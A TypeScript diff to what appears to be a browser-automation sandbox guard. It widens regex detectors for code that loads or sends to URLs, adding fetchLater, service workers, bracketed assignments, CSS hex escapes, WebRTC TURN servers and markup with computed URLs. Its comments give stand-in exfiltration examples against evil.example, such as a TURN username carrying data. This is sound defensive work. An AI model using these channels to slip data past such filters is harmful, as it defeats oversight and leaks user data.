@@ -35,6 +35,8 @@ const schemeRelative = /["'`=(,]\s*[\\/]{2}([^\s"'<>`{}|\\^/?#\u0000-\u001f\u007
 // A host given to a URL object or `location` by assignment (`location.host = 'evil.example'`,
 // `u.hostname = "evil.example"`): the page then goes (or the URL points) there.
 const hostAssigned = /\.(?:host|hostname)\s*=\s*["'`]([^"'`\s/\\?#]+)["'`]/g;
+// A CSS hex escape of a letter of `https`, `wss`, or `:`, `/`, `\` (in any case, zeros before).
+const cssHexEscape = /\\0{0,4}(?:[4-7][0-9a-f]|3a|2f|5c)(?![0-9a-f])/i;
 const base64Literal = /["'`]([A-Za-z0-9+/_-]{12,}={0,2})["'`]/g;
 
 const jsLetters: Record<string, string> = { n: '\n', r: '\r', t: '\t', b: '\b', f: '\f', v: '\v', 0: '\0' };
@@ -281,8 +283,10 @@ export function assembled(text: string): { strings: string[]; runtimeHost: boole
 }
 
 // Where code has the browser load a URL (twenty-first pass): a call or assignment that takes one.
-const loadCalls = /\b(?:fetch|sendBeacon|importScripts|import|open)\s*\(|\blocation\s*\.\s*(?:assign|replace)\s*\(|\bnew\s+(?:Worker|SharedWorker|EventSource|WebSocket|Request|Audio)\s*\(/g;
-const loadAssignments = /(?:\.\s*(?:src|href|action|formAction|poster|srcset|search|pathname|port|protocol)|\blocation)\s*=(?!=)/g;
+// (Twenty-second pass: `fetchLater`, a service worker registered, a `ping` or `imageSrcset` set, a
+// property named in brackets, `img['src'] = …`, `window['location'] = …`, were not read.)
+const loadCalls = /\b(?:fetch|fetchLater|sendBeacon|importScripts|import|open)\s*\(|\bserviceWorker\s*\.\s*register\s*\(|\blocation\s*\.\s*(?:assign|replace)\s*\(|\bnew\s+(?:Worker|SharedWorker|EventSource|WebSocket|Request|Audio)\s*\(/g;
+const loadAssignments = /(?:\.\s*(?:src|href|action|formAction|poster|srcset|imageSrcset|ping|lowsrc|search|pathname|port|protocol)|(?<!\bstyle\s*)\.\s*background|\[\s*(['"`])(?:src|href|action|formAction|poster|srcset|imageSrcset|ping|background|search|pathname|port|protocol|location)\1\s*\]|\blocation)\s*=(?!=)/g;
 const loadAttributes = /\bsetAttribute\s*\(\s*(['"`])(?:src|href|action|formaction|poster|srcset|ping|background)\1\s*,/gi;
 const httpMethod = /^(['"`])\s*(?:get|head|post|put|patch|delete|options)\s*\1\s*,/i;
 
@@ -296,7 +300,7 @@ const httpMethod = /^(['"`])\s*(?:get|head|post|put|patch|delete|options)\s*\1\s
  * written out (read by `codeUrls`), an empty one and a fragment are decided or load nothing.
  */
 export function computedLoad(text: string): boolean {
-  if (!/fetch|sendBeacon|import|open|location|Worker|EventSource|WebSocket|Request|Audio|src|href|action|poster|search|pathname|port|protocol|setAttribute/i.test(text)) return false;
+  if (!/fetch|sendBeacon|import|open|location|Worker|EventSource|WebSocket|Request|Audio|src|href|action|poster|search|pathname|port|protocol|setAttribute|ping|background|register/i.test(text)) return false;
   const lits = literals(text);
   const at = new Map(lits.map((l, i) => [l.start, i]));
   // The literal run an argument begins with, and whether it is the whole argument.
@@ -367,6 +371,17 @@ export function codeSends(text: string): boolean {
 }
 
 /**
+ * Whether code opens a WebRTC connection (twenty-second pass): `new RTCPeerConnection({iceServers:
+ * [{urls: 'turn:evil.example', username: '<data>'}]})` has the browser reach a STUN or TURN server
+ * over UDP, the username and the server's name carrying data, and a remote candidate
+ * (`addIceCandidate`, an SDP's `a=candidate`) any address and port with the ICE username the
+ * agent chose: none of it is a URL the browse rules decide. Browser automation has no use for it.
+ */
+export function opensWebRtc(text: string): boolean {
+  return /RTCPeerConnection|RTCIceCandidate|RTCIceTransport|iceServers|\b(?:stuns?|turns?):[\w-]*[.:[]|a=candidate|addIceCandidate/i.test(jsUnescaped(text));
+}
+
+/**
  * Code the text decodes before it runs it (`eval(atob('…'))`, `Function(decodeURIComponent('…'))`):
  * its base64 literals that decode to text, and the strings it decodes, at most MAX_BASE64 of them.
  * Twenty-first pass: what `computedLoad` and `codeSends` read was missed inside such code.
@@ -395,8 +410,13 @@ export function codeUrls(text: string): string[] {
   // A host made at run time: returned as the bare scheme it follows, which does not parse, so the
   // caller refuses the command.
   if (built.runtimeHost) out.add('https://');
-  // CSS's escapes undone too: a style sheet's, or one a script writes out (twenty-second pass).
-  const views = new Set([text, escaped, referencesDecoded(escaped), cssUnescaped(text), cssUnescaped(escaped), ...built.strings.map((v) => `"${v}"`)]);
+  const views = new Set([text, escaped, referencesDecoded(escaped), ...built.strings.map((v) => `"${v}"`)]);
+  // CSS's escapes undone too: a style sheet's, or one a script writes out (twenty-second pass). Only
+  // a hex escape can hide what the other readings find (an escaped letter or slash, a line break,
+  // reads alike in JavaScript), and one that hides a URL writes a letter of a scheme, `:`, `/` or
+  // `\` (an escaped letter of a host leaves a URL whose host is cut short, refused): the readings
+  // are made only then (they cost a third more on Playwright's 330 KB injected script).
+  if (cssHexEscape.test(text)) for (const v of [cssUnescaped(text), cssUnescaped(escaped)]) views.add(v);
   for (const v of [...views]) views.add(v.replace(/[\t\n\r]/g, ''));
   for (const v of views) urlsIn(v, out);
   let decoded = 0;
@@ -425,6 +445,42 @@ export function relativeUrl(value: string): boolean {
   if (v === '' || v.startsWith('#') || /^[a-z][a-z0-9+.-]*:/i.test(v)) return false;
   const host = /^[\\/]{2}([^\\/?#]+)/.exec(v);
   return !(host && relativeHost(host[1]!));
+}
+
+/** Attributes whose value is a URL the page loads (or goes to, or posts to). */
+export const URL_ATTRIBUTES: ReadonlySet<string> = new Set(['src', 'srcset', 'imagesrcset', 'href', 'xlink:href', 'action', 'formaction', 'poster', 'data', 'background', 'ping', 'cite', 'longdesc', 'manifest', 'icon', 'codebase', 'archive', 'lowsrc', 'dynsrc']);
+
+/** The URLs an attribute's value holds: blank-parted for `ping` and `archive`, comma-parted for the others (`srcset`'s candidates), each up to its first blank. */
+export function attributeUrls(name: string, value: string): string[] {
+  const parts = name === 'ping' || name === 'archive' ? value.split(/[\x00-\x20]+/) : value.split(',');
+  return parts.map((part) => part.replace(/[\t\n\r]/g, '').replace(/^[\x00-\x20]+/, '').split(/[\x01-\x20]/)[0]!);
+}
+
+/**
+ * Whether code writes markup the page parses with a URL relative to it in a string it writes out
+ * (`el.innerHTML = '<img src=/c?d=…>'`, `insertAdjacentHTML`, `document.write`, a template whose
+ * substitution stands in a URL attribute, a literal ending inside one, `'<img src="' + u`), as
+ * `computedLoad` refuses `img.src = '/c?d=' + d` (twenty-second pass).
+ */
+export function codeMarkupRelative(code: string): boolean {
+  if (!code.includes('<')) return false;
+  const computed = (v: string): boolean => {
+    const cut = v.indexOf('\u0000');
+    return cut >= 0 && !/^\s*(?:[a-z][a-z0-9+.-]*:|[\\/]{2}[^\\/?#\s\u0000]+[\\/?#])/i.test(v.slice(0, cut));
+  };
+  for (const l of literals(code)) {
+    if (!/<[a-zA-Z]/.test(l.value)) continue;
+    // A literal ending inside a tag's URL attribute: what follows it is computed.
+    const tail = l.value.slice(l.value.lastIndexOf('<'));
+    if (!tail.includes('>') && /\s(?:src|srcset|imagesrcset|href|xlink:href|action|formaction|poster|data|background|ping)\s*=\s*["']?$/i.test(tail)) return true;
+    const parts = markupParts(l.value);
+    if (parts.more) return true;
+    for (const [name, value] of parts.attributes) {
+      if (name === 'style' ? computed(value) || styleLoadsRelative(value.replaceAll('\u0000', '')) : URL_ATTRIBUTES.has(name) && attributeUrls(name, value).some((u) => computed(u) || relativeUrl(u))) return true;
+    }
+    if (parts.styles.some((css) => styleLoadsRelative(css.replaceAll('\u0000', ''))) || parts.refreshes.some((u) => computed(u) || relativeUrl(u))) return true;
+  }
+  return false;
 }
 
 /**
